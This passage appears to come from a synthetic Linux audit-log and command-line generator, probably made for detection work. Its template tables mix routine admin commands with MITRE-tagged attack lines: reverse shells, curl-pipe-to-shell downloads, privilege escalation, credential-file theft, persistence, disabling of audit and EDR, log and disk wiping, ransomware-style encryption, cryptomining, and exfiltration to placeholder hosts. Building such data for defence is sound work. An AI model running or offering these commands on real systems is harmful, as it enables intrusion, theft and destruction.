PATH item=«num:0:2» name="«/etc/sudoers.d/«letters:4»|/root/.ssh/authorized_keys|/etc/ld.so.preload|/etc/cron.d/«letters:4»|/tmp/.«letters:4»|/dev/shm/.«letters:3»/«letters:4»|/var/tmp/«xmrig|.«letters:5»»|/var/www/html/«letters:4».php|/etc/systemd/system/«letters:6».service|/home/«other»/.ssh/id_rsa|/proc/«num:1:9999»/mem|/etc/pam.d/«common-auth|sshd»|/lib/modules/«letters:6».ko|/root/.bash_history|/var/log/wtmp|/var/run/docker.sock|/etc/rc.local|/home/«other»/.aws/credentials|/proc/sys/kernel/core_pattern|/sys/fs/cgroup/release_agent»" inode=«num:1000:9999999» dev=08:02 mode=0100«644|755|777|600» ouid=«0|33|«num:1000:3000»» ogid=0 rdev=00:00 nametype=«NORMAL|CREATE|DELETE» cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0
SYSCALL arch=c000003e syscall=«59|42|101|175|313|319|41|62|165» success=yes exit=0 a0=«hex:8» a1=«hex:12» a2=«hex:4» a3=0 items=«num:0:3» ppid=«num:300:65535» pid=«num:300:65535» auid=«4294967295|1000» uid=«33|0|«num:1000:3000»» gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=«pts0|(none)» ses=«num:1:3000» comm="«nc|ncat|socat|.«letters:4»|xmrig|kworkerds|insmod|gdb|linpeas.sh|«letters:5»|pwnkit|chisel»" exe="«/tmp/.«letters:4»|/dev/shm/«letters:5»|/var/tmp/.«letters:3»/«letters:4»|/tmp/«linpeas.sh|pwnkit|chisel|xmrig»|/usr/bin/«ncat|nc.traditional|socat|gdb»|/memfd:«letters:4» (deleted)|/home/«other»/.cache/.«letters:5»»" key=«"reverse_shell"|"susp_activity"|(null)|"modules"|"tmp_exec"»
ANOM_«PROMISCUOUS dev=eth0 prom=256 old_prom=0 auid=«num:0:2000» uid=0 gid=0 ses=«num:1:900»|ABEND auid=«num:1000:2000» uid=0 gid=0 ses=«num:1:900» pid=«num:300:9999» comm="«sudo|pkexec|su|polkitd»" exe="/usr/bin/«sudo|pkexec|su»" sig=11 res=1|LINK op=linkat ppid=«num:300:9999» pid=«num:300:9999» auid=1000 uid=1000 comm="ln" exe="/usr/bin/ln" res=0»
AVC avc:  denied  { «execute|ptrace|name_connect|write|module_load» } for  pid=«num:300:9999» comm="«httpd|php-fpm|nginx|sh|named»" «path="/tmp/.«letters:4»"|dest=«port»» scontext=system_u:system_r:httpd_t:s0 tcontext=«system_u:object_r:shadow_t:s0|unconfined_u:object_r:user_tmp_t:s0» tclass=«file|tcp_socket|process» permissive=«0|1»
# T1562.012 audit turned off
«CONFIG_CHANGE op=remove_rule key="«exec|time-change|identity»" list=4 res=1|CONFIG_CHANGE op=set audit_enabled=0 old=1 auid=«num:0:2000» ses=«num:1:900» res=1|DAEMON_END op=terminate auid=«num:0:2000» pid=«num:300:9999» subj=unconfined res=success|DAEMON_ABORT op=parse-error auid=0 pid=«num:300:9999» res=failed|MAC_STATUS enforcing=0 old_enforcing=1 auid=«num:0:2000» ses=«num:1:900» enabled=1 old-enabled=1 lsm=selinux res=1|CONFIG_CHANGE op=set audit_backlog_limit=0 old=8192 auid=0 res=1»
SERVICE_STOP pid=1 uid=0 auid=4294967295 ses=4294967295 msg='unit=«auditd|falcon-sensor|wazuh-agent|rsyslog|firewalld|falco|apparmor» comm="systemd" exe="/usr/lib/systemd/systemd" hostname=? addr=? terminal=? res=success'
KERN_MODULE name="«diamorphine|reptile|«letters:6»»"
# T1136.001 audit accounts
«ADD_USER|USER_MGMT|ADD_GROUP» pid=«num:300:9999» uid=0 auid=«num:0:2000» ses=«num:1:900» msg='op=«adding user id=0|add-user-to-group grp="«wheel|sudo|root»"|adding user to shadow group» acct="«www-data|«letters:5»|toor|backdoor»" exe="/usr/sbin/«useradd|usermod»" hostname=«?|«pub»» addr=«?|«pub»» terminal=«?|pts/0» res=success'
USER_CHAUTHTOK pid=«num:300:9999» uid=0 auid=«num:0:2000» ses=«num:1:900» msg='op=«PAM:chauthtok|changing password» acct="«root|www-data|nobody|daemon»" exe="/usr/«bin/passwd|sbin/chpasswd»" hostname=? addr=? terminal=«?|pts/1» res=success'
""")

# Command lines: audit records, process logs and shells. Daily and attack.
COMMANDS = table(r"""
# shell looking around daily
«ls|ls -la|ls -lh|ll» «/var/log|/home/«user»|/etc/nginx|.|/opt/«word»|/srv»
«cat|less|head -n 20|tail -n «num:10:200»|tail -f» «/var/log/syslog|/var/log/messages|/var/log/nginx/error.log|/etc/hosts|/etc/os-release|README.md|/proc/meminfo|/etc/resolv.conf|config.yml|/etc/fstab|/var/log/«word».log|package.json»
«df -h|free -m|uptime|top -b -n 1|ps aux|ps -ef|w|who|whoami|id|hostname|hostname -f|uname -a|uname -r|date|lsblk|ip addr|ip route|ss -tulpn|netstat -an|du -sh /var|vmstat 1 5|iostat -x|lscpu|env|mount|dmesg -T|last -n 10|groups|lsof -i :80|nproc|locale|timedatectl|getent passwd «user»|pgrep -f «word»|man «rsync|find|tar»|which «python3|java|node»|stat /etc/«word».conf|history|ifconfig -a|arp -n|file «word».bin|dig «sitedomain»|ping -c 4 «server2|8.8.8.8|«linux2»»|traceroute «known»|nslookup «known»|host «known»|lsmod|sysctl -a|lspci|cat /proc/cpuinfo|getent group docker|uname -m|id -u|id -un|tty|stty -a|dirname «word»|basename «word»|readlink -f «word»|mesg n|clear|sleep «num:1:60»|true|expr 1 + 1|seq 1 10|logger «word»»
grep «-r|-i|-rn|-E|-v» «word» «/var/log/syslog|/etc/nginx|src/|*.py|/etc/passwd»
find «.|/var/log|/srv/«word»|/tmp» «-name "*.«log|py|tmp|gz»"|-mtime +«num:7:90» -delete|-type f -size +100M|-type d -empty»
systemctl «status|is-active|list-units|show|cat» «nginx|sshd|docker|mysql|kmod.service|cron|chronyd|«word»»«.service|»« --no-pager|»
# shell administration daily
«apt-get|apt» «update|upgrade -y|install -y «curl|jq|nginx|htop|git|postgresql-client|unzip»|autoremove»
«yum|dnf» «-y update|install -y «httpd|vim|wget|telnet|nmap-ncat|bind-utils»|check-update|clean all»
systemctl «restart|reload|start|stop|enable|disable|daemon-reload» «nginx|apache2|mysql|docker|postgresql|php8.1-fpm|redis|«word»»
«vim|nano|vi» «/etc/«hosts|nginx/sites-available/«word»|ssh/sshd_config|crontab|my.cnf|sudoers.d/«word»»|«word».«py|sh|conf|yml»»
«useradd -m -s /bin/bash «first»|usermod -aG «docker|www-data|«dept»» «other»|passwd «other»|userdel -r «other»|groupadd «dept»|chage -l «user»|visudo -c»
«chown -R www-data:www-data /var/www/«word»|chmod «644|755|640|+x» «script.sh|/opt/«word»/run.sh|/var/www/«word»/index.php»|mkdir -p /srv/«word»/«word»|ln -s /opt/«word»/bin/«word» /usr/local/bin/«word»|cp «word».conf «word».conf.bak|mv «word» /srv/|rm -rf /tmp/«word»-build|touch «word».log|umount /mnt/«word»»
«ufw allow 443/tcp|firewall-cmd --add-service=https --permanent|iptables -L -n|iptables -A INPUT -p tcp --dport 443 -j ACCEPT|nft list ruleset|ufw status»
«scp|rsync -avz» «word».tar.gz «user»@«linux2»:/srv/«word»/
ssh «user»@«linux2»«| uptime| 'systemctl status nginx'»
«crontab -l|crontab -e|at now + 1 hour|systemctl list-timers»
«curl -s|curl -I|curl -fsSL|wget -q» https://«sitedomain»/«health|api/status|download/«word».tar.gz|«word»»
curl -X POST -H Content-Type:application/json -d {"text":"deploy «word» done"} https://hooks.slack.com/services/«mixed:9»/«mixed:24»
«openssl s_client -connect «sitedomain»:443|openssl x509 -in «word».crt -noout -dates|ssh-keygen -t ed25519 -f /home/«user»/.ssh/id_ed25519|certbot renew --quiet|gpg --verify «word».sig|update-ca-certificates»
«tar|/bin/tar» «czf /backup/«word»-«date».tar.gz /srv/«word»|xzf «word».tar.gz|-tf «word».tgz»
«kill -HUP «num:300:9999»|pkill -f «word»-worker|nice -n 10 «word»|nohup ./«word».sh|screen -r|tmux attach|su - «postgres|«user»»|sudo -l|sudo -i|sudo systemctl restart «word»»
«tcpdump -i eth0 -c 100 port 53|strace -p «num:300:9999» -c|nc -zv «linux2» «443|5432|22»|nmap -sT -p 443 «linux2»|mtr -r «known»»
# shell development daily
git «pull|push origin main|status|clone https://github.com/«word»/«word».git|commit -m "«word» «word»"|checkout -b «word»|log --oneline|diff|fetch --all --prune|rebase main|-c core.quotepath=off status»
«npm|yarn|pnpm» «install|run build|test|ci|start»
«docker ps|docker compose up -d|docker build -t «site»/«word»:«num:1:99» .|docker logs -f «word»|docker exec -it «word» bash|docker pull «redis|postgres|nginx»:latest|docker system prune -f|docker run --rm -v /srv/«word»:/data alpine ls /data»
«kubectl get pods -n «word»|kubectl apply -f «word».yaml|kubectl logs «word»-«hex:5»|helm upgrade --install «word» ./chart|terraform plan|terraform apply -auto-approve|ansible-playbook -i inventory «word».yml|aws s3 sync ./dist s3://«site»-«word»|gcloud auth list|az vm list -o table»
«python3|python|/usr/bin/python3» «manage.py migrate|-m venv .venv|«word».py --verbose|-m pytest tests|-m http.server 8000|-c "import sys; print(sys.version)"|setup.py install|-m json.tool»
«mvn clean package|gradle build|make -j4|make install|cargo build --release|go test ./...|java -jar «word».jar --spring.profiles.active=prod|node server.js|gcc -O2 -o «word» «word».c|bundle exec rake db:migrate|php artisan migrate|composer install|pip install -r requirements.txt|perl -ne "print if /«word»/"|bash -c "source .env && ./run.sh"|sh -c "echo $PATH"»
«mysql|psql|mysqldump|pg_dump|redis-cli|sqlite3» «-u «user» -p «word»|-h «linux2» -U «word» -c "select count(*) from «word»"|--single-transaction «word»|-U postgres «word»|ping|«word».db»
# daemon work
«/usr/sbin/cron -f|/usr/sbin/sshd -D -R|/bin/sh -c run-parts /etc/cron.hourly|/usr/lib/systemd/systemd-logind|/usr/sbin/logrotate /etc/logrotate.conf|/usr/bin/dpkg --print-foreign-architectures|/usr/lib/apt/apt.systemd.daily update|/usr/bin/dbus-send --system --print-reply|run-parts --report /etc/cron.daily|/bin/sh /etc/cron.daily/«man-db|dpkg|mlocate|logrotate»|/usr/sbin/unix_chkpwd «user» chkexpiry|/usr/bin/snap refresh|/usr/lib/update-notifier/apt-check --human-readable|/usr/bin/gpgconf --list-dirs|/usr/sbin/postfix -c /etc/postfix reload|/usr/bin/updatedb|/sbin/ldconfig|/usr/sbin/dumpe2fs -h /dev/sda1|/usr/bin/python3 /usr/bin/unattended-upgrade|/usr/libexec/sssd/sssd_be --domain «ad»|/usr/sbin/zabbix_agentd -c /etc/zabbix/zabbix_agentd.conf|/usr/lib/nagios/plugins/check_disk -w 20% -c 10%|/usr/bin/mandb --quiet|/usr/bin/find /var/cache/man -type f -name *.gz -atime +6 -delete|/opt/«word»/bin/agent --config /etc/«word»/agent.yml|/usr/bin/ssh -o BatchMode=yes «svc»@«linux2» uptime|/usr/sbin/runuser -u postgres -- /usr/bin/vacuumdb -a|/usr/bin/rsync --server --sender -logDtpre.iLsfxC . /srv/«word»|sh -c /usr/bin/test -e /usr/share/«word»|/usr/bin/crontab -l -u «svc»|/usr/bin/wget -q -O /dev/null https://«sitedomain»/cron.php|gzip -9 /var/log/«word».log.1|/usr/bin/bash /usr/local/bin/backup.sh --full|mandb -pq|/usr/bin/podman healthcheck run «hex:12»|runc --root /run/docker/runtime-runc/moby exec «hex:12»|/usr/bin/containerd-shim-runc-v2 -namespace moby -id «hex:24»|kube-proxy --config=/var/lib/kube-proxy/config.conf|iptables-save -t nat|ipset list -name»
# T1059.004 reverse shells
bash -«i|c "bash -i >& /dev/tcp/«peer»/«port» 0>&1"»«| >& /dev/tcp/«peer»/«port» 0>&1»
«nc|ncat|/tmp/nc|netcat|nc.traditional» «-e /bin/«sh|bash» «peer» «port»|«peer» «port» -e /bin/bash|-lvnp «port» -e /bin/sh»
python«|3|2.7» -c «'|"»import «socket,subprocess,os|os,pty,socket»;s=socket.socket(«socket.AF_INET,socket.SOCK_STREAM|»);s.connect(("«peer»",«port»));os.dup2(s.fileno(),0);«pty.spawn("/bin/bash")|subprocess.call(["/bin/sh","-i"])»«'|"»
perl -e 'use Socket;$i="«peer»";$p=«port»;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");exec("/bin/sh -i");};'
php -r '$sock=fsockopen("«peer»",«port»);exec("/bin/sh -i <&3 >&3 2>&3");'
ruby -rsocket -e'f=TCPSocket.open("«peer»",«port»).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'
socat «exec:'bash -li',pty,stderr,setsid,sigint,sane|TCP:«peer»:«port» EXEC:/bin/sh|tcp-connect:«peer»:«port» exec:/bin/bash,pty,stderr»
sh -c «rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f¦sh -i 2>&1¦nc «peer» «port» >/tmp/f|0<&196;exec 196<>/dev/tcp/«peer»/«port»; sh <&196 >&196 2>&196|echo «shbad» ¦ base64 -d ¦ bash»
python3 -c import pty;pty.spawn("/bin/bash")
awk BEGIN{s="/inet/tcp/0/«peer»/«port»";while(42){do{printf "shell>"¦&s;s¦&getline c;while((c¦&getline)>0)print $0¦&s;close(c)}while(c!="exit")}}
# T1105 fetch and run
«curl|wget» «-s|-fsSL|-k|-q» http«|s»://««peer»|«domain»|«peer»:«port»»/«letters:1:6».«sh|elf|x86_64|bin|arm7» «-o|-O» «/tmp|/dev/shm|/var/tmp»/«.|»«letters:1:6»
sh -c «curl|wget -qO-» http://««peer»|«domain»»/«letters:1:6»«.sh|» ¦ «bash|sh|python»
chmod «777|+x|755» «/tmp|/dev/shm|/var/tmp»/«.|»«letters:2:6»
«/tmp|/dev/shm|/var/tmp»/«.|»«letters:1:8»«| -o pool.«domain»:3333| «peer» «port»| &|.elf»
«tftp|busybox tftp» -g -r «letters:3:6» «peer»
«base64 -d /tmp/«letters:4».b64|echo «shbad» ¦ base64 --decode»
scp -o StrictHostKeyChecking=no «letters:4»@«peer»:/«letters:4» /tmp/.«letters:3»
# T1548.001 privilege escalation
«chmod|/bin/chmod» «u+s|4755|+s|6777» «/bin/bash|/tmp/«letters:3»|/usr/bin/find|/bin/dash|/bin/sh»
find / -perm «-4000|-u=s|/6000» -type f«| 2>/dev/null| -exec ls -l {} ;»
«/tmp/.«letters:4»/«exploit|dirtycow|pwnkit|«letters:4»»|./«exploit|dirtypipe|cve-2021-4034|PwnKit|linpeas.sh|linux-exploit-suggester.sh|pspy64|LinEnum.sh|sudo_killer.sh|les.sh»»
«sudo|/usr/bin/sudo» «-u#-1 /bin/bash|find . -exec /bin/sh \; -quit|vim -c ':!/bin/sh'|awk 'BEGIN {system("/bin/sh")}'|python3 -c 'import os;os.setuid(0);os.system("/bin/sh")'|less /etc/hosts !sh|env /bin/sh|perl -e 'exec "/bin/sh";'|tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec=/bin/sh|nmap --script=/tmp/x.nse|sed -n '1e exec sh' /etc/hosts|LD_PRELOAD=/tmp/«letters:4».so id|systemctl link /tmp/«letters:4».service»
«capsh --gid=0 --uid=0 --|/bin/bash -p|/usr/bin/pkexec /bin/sh|setcap cap_setuid+ep /tmp/python3|getcap -r /|nsenter -t 1 -m -u -i -n -p sh|unshare -rm sh -c mount -t overlay overlay|docker run -v /:/mnt --rm -it alpine chroot /mnt sh|docker run --privileged --pid=host alpine nsenter -t 1 -m sh|mount /dev/sda1 /mnt/«letters:3»|debugfs /dev/sda1|insmod /tmp/«letters:5».ko|gdb -nx -ex '!sh' -ex quit|lxc init alpine privesc -c security.privileged=true|cat /sys/fs/cgroup/release_agent»
gcc -«o|pthread -o|static -o» /tmp/«letters:3:6» /tmp/«exploit|«letters:5»|cve-20«num:16:23»-«num:1000:9999»».c
# T1003.008 credential files
«cat|less|head|strings|cp|tail|base64|xxd|awk -F: '{print $2}'» «/etc/shadow|/etc/shadow-|/root/.ssh/id_rsa|/home/«other»/.ssh/id_rsa|/home/«other»/.bash_history|/root/.bash_history|/etc/sudoers|/home/«other»/.aws/credentials|/root/.aws/credentials|/home/«other»/.git-credentials|/var/run/secrets/kubernetes.io/serviceaccount/token|/etc/krb5.keytab|/root/.kube/config|/home/«other»/.config/gcloud/credentials.db|/proc/«num:1:9999»/environ|/etc/gshadow|/var/lib/sss/db/cache_«ad».ldb|/home/«other»/.mozilla/firefox/logins.json|/var/lib/jenkins/secrets/master.key|/var/www/html/wp-config.php|/etc/openldap/slapd.conf|/tmp/krb5cc_«num:0:2000»»
«unshadow /etc/passwd /etc/shadow|john --wordlist=/tmp/rockyou.txt /tmp/«letters:4»|hashcat -m 1800 /tmp/h.txt /tmp/rockyou.txt|python3 mimipenguin.py|/tmp/mimipenguin.sh|./LaZagne all|gcore «num:300:9999»|dd if=/proc/«num:300:9999»/mem of=/tmp/m|tcpdump -i any -A -s0 port 21 or port 110|hydra -L users.txt -P pass.txt ssh://«ip2»|procdump -p «num:300:9999»|truffleHog --regex file:///srv|getent shadow|strace -f -e trace=read,write -p «num:300:9999» -o /tmp/.ssh.log»
«grep -ri|grep -rniE|find / -name» «password /etc|'password¦secret¦api_key' /var/www /home|id_rsa|*.kdbx|*.pem -o -name *.key|"aws_secret_access_key" /home|BEGIN.*PRIVATE /»«| 2>/dev/null»
curl«| -s| -H Metadata:true| -H X-aws-ec2-metadata-token:$TOKEN» http://«imds»/«latest/meta-data/iam/security-credentials/«|«word»-role»|metadata/identity/oauth2/token?api-version=2018-02-01|computeMetadata/v1/instance/service-accounts/default/token|latest/user-data»
# T1543.002 persistence
«echo|tee -a» «ssh-rsa AAAAB3NzaC1yc2E«b64:60» «letters:4»@«letters:4»« >> /root/.ssh/authorized_keys| /home/«other»/.ssh/authorized_keys»|* * * * * root curl http://«peer»/«letters:3»¦sh« >> /etc/crontab| /etc/cron.d/«letters:5»»|«letters:4»::0:0::/root:/bin/bash >> /etc/passwd|/tmp/«letters:4».so >> /etc/ld.so.preload|alias sudo='/tmp/.«letters:3»' >> /home/«other»/.bashrc|ALL ALL=(ALL) NOPASSWD:ALL >> /etc/sudoers|bash -i >& /dev/tcp/«peer»/«port» 0>&1 >> /etc/rc.local»
«cp|mv|install -m 755» «/tmp|/dev/shm»/«.|»«letters:4» «/etc/init.d/«letters:5»|/usr/lib/systemd/system/«letters:6».service|/etc/cron.d/«letters:4»|/usr/bin/.«letters:4»|/etc/update-motd.d/99-«letters:3»|/lib/security/pam_«letters:4».so|/etc/profile.d/«letters:4».sh|/etc/xdg/autostart/«letters:5».desktop|/usr/sbin/«sshd|kworker»»
«useradd|/usr/sbin/useradd» «-o -u 0 -g 0 -M -d /root -s /bin/bash «letters:4:7»|-ou 0 -g 0 «letters:5»|-p $1$«letters:8» -G «sudo|wheel» «letters:4:7»»
«systemctl enable --now|systemctl start» «/tmp/«letters:5».service|kworker-«letters:2»d|dbus-«letters:4»|«letters:9».timer»
«crontab /tmp/.«letters:3»|(crontab -l; echo "*/5 * * * * /tmp/.«letters:4»") ¦ crontab -|crontab -u root /tmp/cron.txt|at -f /tmp/.«letters:3».sh now|systemd-run --on-calendar=*:0/5 /tmp/.«letters:4»|chattr +i /etc/cron.d/«letters:4»|touch -r /bin/ls /tmp/.«letters:4»|usermod -s /bin/bash www-data|echo root:«mixed:8» ¦ chpasswd|passwd -u root|ssh -N -R «port»:localhost:22 «letters:4»@«peer»»
# T1562.001 tampering
«systemctl stop|systemctl disable --now|service|pkill -9|killall -9|systemctl mask» «auditd|rsyslog|falco|firewalld|wazuh-agent|crowdstrike-falcon-sensor|falcon-sensor|ufw|osqueryd|elastic-agent|aliyun-service|filebeat|mdatp|clamav-daemon|fail2ban|cbagentd|syslog-ng stop»
«auditctl -«e 0|D|d never,task»|setenforce 0|iptables -F|iptables -P INPUT ACCEPT|ufw disable|echo 0 > /proc/sys/kernel/randomize_va_space|sysctl -w kernel.yama.ptrace_scope=0|swapoff -a|unset HISTFILE|export HISTFILE=/dev/null|history -c|ln -sf /dev/null /root/.bash_history|export HISTSIZE=0|set +o history|HISTCONTROL=ignorespace|kill -9 $$|apt-get remove -y falcon-sensor|rpm -e wazuh-agent|sed -i s/SELINUX=enforcing/SELINUX=disabled/ /etc/selinux/config|systemctl stop apparmor|echo 0 > /selinux/enforce|modprobe -r tcp_diag|aa-teardown»
«rm -f|rm -rf|shred -zu|truncate -s 0|cat /dev/null >|echo >» «/var/log/auth.log|/var/log/secure|/var/log/wtmp|/var/log/lastlog|/var/log/audit/audit.log|/var/log/*|/root/.bash_history|/home/«user»/.bash_history|/var/log/btmp|/var/log/syslog|/var/log/journal»
«rm -rf|dd if=/dev/zero of=|mkfs.ext4|wipefs -a|shred -n 3» «/ --no-preserve-root|/dev/sda|/home/*|/dev/nvme0n1|/var/lib/mysql|/backup/*»
«touch -t 20«num:10:20»«num:10:12»«num:10:28»0101|touch -d "«num:2:9» years ago"|touch -r /bin/ls» «/tmp|/usr/bin|/var/www/html»/«.|»«letters:4»«|.php»
find / -name "*.«doc|sql|pdf|vmdk|db»" -exec «openssl enc -aes-256-cbc -in {} -out {}.«locked|enc» -k «mixed:8» ;|gpg --batch --passphrase «mixed:8» -c {} ;|mv {} {}.«lockbit|encrypted|«letters:5»» ;»
«esxcli vm process kill --type=force --world-id=«num:1000:99999»|vim-cmd vmsvc/power.off «num:1:99»|openssl rand -base64 32 > /tmp/key|echo "Your files are encrypted. Contact «letters:6»@proton.me" > /etc/motd»
# T1496 mining
«/tmp|/dev/shm|/var/tmp|.»/«.|»«xmrig|kinsing|kdevtmpfsi|«letters:4»|sysupdate|kthreaddk|c3pool|watchbog|minerd|ccminer|«letters:6»» «-o stratum+tcp://«pool.«domain»|xmr.«domain»|«peer»»:«3333|4444|14444|443» -u «mixed:95» -p x«| --donate-level 1»|--url=pool.«domain»:3333 --user=«mixed:95» --cpu-max-threads-hint=«num:50:100»|-B -o «peer»:«port» -k --tls|-c /tmp/.«letters:3»/config.json»
«modprobe msr allow_writes=on|sysctl -w vm.nr_hugepages=«num:128:2000»|pkill -f «xmrig|kinsing|kdevtmpfsi|cryptonight|minerd»|docker run -d «letters:6»/xmrig -o «peer»:3333|crontab -r; pkill -9 kdevtmpfsi|wrmsr -a 0x1a4 0xf»
# T1082 looking around by tools
«sh -c id; uname -a; cat /etc/passwd; ip a; netstat -antp; ps aux|sh -c "(uname -a; id; cat /etc/issue; cat /proc/version; sudo -l) > /tmp/.«letters:3»"|cat /etc/passwd ¦ cut -d: -f1,3,7 ¦ grep -v nologin|find / -writable -type d -not -path "/proc/*"|ls -la /home/*/.ssh /root/.ssh|cat /home/*/.bash_history|showmount -e «ip2»|arp -a ¦ tee /tmp/.a|nmap -«sS|sV|A|Pn -p-|sU --top-ports 100» «ip2»/24|masscan -p1-65535 «ip2»/16 --rate=10000|for i in $(seq 1 254); do ping -c1 -W1 «ip2».$i; done|fscan -h «ip2»/24|ldapsearch -x -H ldap://«ip2» -b dc=«site»,dc=local "(objectClass=user)"|rpcclient -U "" -N «ip2»|enum4linux -a «ip2»|crackmapexec smb «ip2»/24 -u «admin» -p «mixed:8»|smbclient -L //«ip2» -N|kubectl auth can-i --list|kubectl get secrets -A -o yaml|cat /var/run/docker.sock|curl --unix-socket /var/run/docker.sock http://localhost/containers/json|whoami; id; w; last|lsb_release -a; cat /etc/*release; rpm -qa ¦ grep kernel|sudo -n -l|cat /etc/sudoers /etc/group /etc/crontab|ss -antp ¦ grep ESTAB > /tmp/.n»
# T1041 data theft
«tar|zip -r -P «mixed:8»|7z a -p«mixed:8»» «czf /tmp/.«letters:3».tgz|/tmp/«letters:4».zip|/dev/shm/.«letters:2».7z» «/home /etc|/var/www /etc/passwd /etc/shadow|/root/.ssh|/var/lib/mysql|/srv/«word»»
curl «-F file=@|-T |--upload-file |--data-binary @»/«tmp|dev/shm»/«.|»«letters:3».«tgz|zip|txt» http«|s»://««peer»|transfer.sh|file.io|«domain»»/«letters:2:5»
«scp /etc/shadow «letters:4»@«peer»:/tmp/|rsync -az /home/ «letters:4»@«peer»:/«letters:3»|cat /tmp/.«letters:3».tgz ¦ nc «peer» «port»|rclone copy /srv/«word» mega:«letters:5» --config /tmp/.rc|mysqldump --all-databases ¦ gzip ¦ curl -T - http://«peer»/d|pg_dumpall ¦ nc «peer» «port»|xxd -p /etc/shadow ¦ while read l; do dig $l.«domain»; done|base64 /etc/passwd ¦ curl -d @- http://«peer»/|aws s3 cp /srv/«word» s3://«letters:9» --recursive --no-sign-request|wget --post-file=/etc/shadow http://«peer»/»
# T1071 tunnels and agents
«chisel client «peer»:«port» R:socks|./chisel client --fingerprint «mixed:12» «peer»:443 R:«port»:127.0.0.1:22|ssh -fNR «port»:127.0.0.1:22 -o StrictHostKeyChecking=no «letters:4»@«peer»|ngrok tcp 22|./frpc -c /tmp/frpc.ini|gost -L=:«port» -F=socks5://«peer»:1080|iodine -f -P «mixed:6» t.«domain»|dnscat2 --dns server=«peer»|proxychains4 nmap -sT «ip2»|tor -f /tmp/.torrc|nohup /tmp/.«letters:5» -server «peer»:443 &|./merlinAgent -url https://«peer»|sliver-client|./agent -connect «peer»:11601 -ignore-cert|msfvenom -p linux/x64/meterpreter/reverse_tcp LHOST=«peer» LPORT=«port» -f elf|ssh -D 1080 -N «letters:4»@«peer»|gs-netcat -s «mixed:10» -i|cloudflared tunnel --url tcp://localhost:22»
""")
